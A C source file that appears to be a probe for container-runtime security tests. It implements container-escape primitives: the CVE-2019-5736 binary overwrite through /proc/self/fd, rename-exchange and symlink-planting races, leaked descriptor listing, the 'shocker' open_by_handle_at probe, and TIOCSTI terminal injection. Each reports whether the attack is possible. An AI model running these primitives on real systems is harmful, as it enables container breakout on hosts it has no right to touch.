/*
 * What an attacker inside a container would run, static, so that any root filesystem can run it. The first argument says what it tries.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *verdict(long result) {
	return result < 0 ? strerror(errno) : "possible";
}

static int is_there(const char *path) {
	struct stat status;
	return lstat(path, &status) == 0;
}

/* Opens a binary for reading, and for as long as asked tries to open what that descriptor is for writing (CVE-2019-5736). */
static void overwrite(char **a) { /* path tries */
	char own[64];
	int held = open(a[0], O_RDONLY);
	if (held < 0) return (void)printf("overwrite: %s\n", strerror(errno));
	struct statvfs mount;
	printf("mount: %s\n", fstatvfs(held, &mount) == 0 && mount.f_flag & ST_RDONLY ? "read-only" : "writable");
	snprintf(own, sizeof own, "/proc/self/fd/%d", held);
	for (long tries = atol(a[1]); tries > 0; tries--) {
		int fd = open(own, O_WRONLY);
		if (fd >= 0 && write(fd, "#!/evil\n", 8) > 0) return (void)puts("overwrite: possible");
		if (fd >= 0) close(fd);
		if (errno != ETXTBSY) break;
		usleep(1000);
	}
	printf("overwrite: %s\n", strerror(errno));
}

/* Exchanges two names as fast as it can, until a third exists. */
static void swap(char **a) { /* one other stop */
	while (!is_there(a[2])) {
		syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], 2 /* RENAME_EXCHANGE */);
	}
}

/* Puts a link in the place of a folder as soon as somebody has made that. */
static void plant(char **a) { /* folder target stop */
	while (!is_there(a[2])) {
		if (rmdir(a[0]) == 0 && symlink(a[1], a[0]) == 0) usleep(200000);
		unlink(a[0]);
	}
}

static void descriptors(char **a) { /* all but the standard three, and what they are */
	char path[64], target[512];
	(void)a;
	printf("descriptors:");
	for (int fd = 3; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0) continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(path, target, sizeof target - 1);
		target[length < 0 ? 0 : length] = '\0';
		printf(" %d=%s", fd, target);
	}
	puts("");
}

/* A handle of what would be the root of the file system that a path lies on: "shocker". */
static void handles(char **a) { /* path */
	struct {
		struct file_handle head;
		unsigned char bytes[128];
	} handle = {.head.handle_bytes = 8, .head.handle_type = 1, .bytes = {2}};
	int at = open(a[0], O_RDONLY | O_DIRECTORY);
	printf("open_by_handle_at: %s\n", verdict(syscall(SYS_open_by_handle_at, at, &handle, O_RDONLY)));
}

/* Types a letter into the terminal that it has: into the one of who started it, if that were it. */
static void inject(char **a) {
	(void)a;
	const char letter = 'x';
	int terminal = open("/dev/tty", O_RDWR);
	printf("terminal %s, inject: %s\n", ttyname(0) ? ttyname(0) : "none", verdict(ioctl(terminal, TIOCSTI, &letter)));
}

static const struct {
	const char *name;
	int arguments;
	void (*call)(char **);
} attacks[] = {
	{"overwrite", 2, overwrite}, {"swap", 3, swap}, {"plant", 3, plant}, {"descriptors", 0, descriptors}, {"handles", 1, handles}, {"inject", 0, inject},
};

int main(int argc, char **argv) {
	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
		if (!strcmp(attacks[i].name, argv[1]) && argc == attacks[i].arguments + 2) return attacks[i].call(argv + 2), fflush(stdout);
	return 64;
}
